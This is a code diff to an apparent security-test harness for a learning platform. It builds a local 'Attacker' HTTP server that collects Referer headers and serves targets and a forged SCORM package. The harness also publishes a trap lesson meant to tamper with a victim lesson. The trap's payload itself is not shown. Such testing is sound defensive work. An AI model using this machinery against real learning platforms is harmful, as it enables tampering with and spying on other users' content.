@@ -5,7 +5,7 @@ from __future__ import annotations
 import base64
 import json
 import threading
-from contextlib import closing
+from contextlib import closing, suppress
 from dataclasses import dataclass
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
@@ -61,6 +61,7 @@ class Attacker:
         self._target: dict[str, Any] | None = None
         self._may_begin = threading.Event()
         self._done = threading.Event()
+        self._claims = [b"{}"]
         self._found: dict[str, bool] = {}
         self._referrers: list[str] = []
         attacker = self
@@ -68,7 +69,9 @@ class Attacker:
         class Handler(BaseHTTPRequestHandler):
             def do_GET(self) -> None:
                 attacker._referrers.append(self.headers.get("Referer", ""))
-                answer = {"/target": attacker._first, "/referrers": attacker._seen}.get(self.path)
+                answer = {"/target": attacker._aim, "/claim": attacker._claim, "/referrers": attacker._seen}.get(
+                    self.path
+                )
                 body = _PIXEL if answer is None else answer()
                 self.send_response(200 if body else 404)
                 self.send_header("Access-Control-Allow-Origin", "*")
@@ -109,10 +112,15 @@ class Attacker:
             raise TimeoutError(f"the hostile lesson went no further than {list(self._found)[-1:]}")
         return self._found
 
-    def _first(self) -> bytes:
+    def _aim(self) -> bytes:
         self._may_begin.wait(_PATIENCE)
-        target, self._target = self._target, None
-        return json.dumps(target).encode() if target else b""
+        return json.dumps(self._target).encode()
+
+    def _claim(self) -> bytes:
+        """Let the first who asks begin: a page that was left while it waited asks no more."""
+        with suppress(IndexError):
+            return self._claims.pop()
+        return b""
 
     def _seen(self) -> bytes:
         return json.dumps(self._referrers).encode()
@@ -149,6 +157,8 @@ def attack(engine: Engine, service: Installed, *, patience: int) -> Outcome:
             screen, beside, f"{lessons}/{publish(service.installation, scorm12('Bài khác', files('victim')))}"
         )
         victim = str(other.tab.run("return location.href", *other.frames)).rpartition("/")[0] + "/"
+        another = f"{lessons}/{publish(service.installation, scorm12('Bài thứ ba'))}"
+        open_in(screen, screen.open(), another)
         trap = scorm12("Bẫy", files("trap", attacker=attacker.origin))
         address = f"{lessons}/{publish(service.installation, trap)}"
         open_in(screen, tab, address)
@@ -173,7 +183,7 @@ def attack(engine: Engine, service: Installed, *, patience: int) -> Outcome:
             }
 
         before = truth()
-        target = {"app": app, "lesson": address, "victim": victim, "links": links, "patience": patience}
+        target = {"app": app, "lesson": address, "another": another, "victim": victim, "links": links, "patience": patience}
         found = attacker.attack(target | {"zip": base64.b64encode(scorm12("Giả mạo")).decode()})
         after = truth()
         seen = f"{after['led']} {after['place']}"
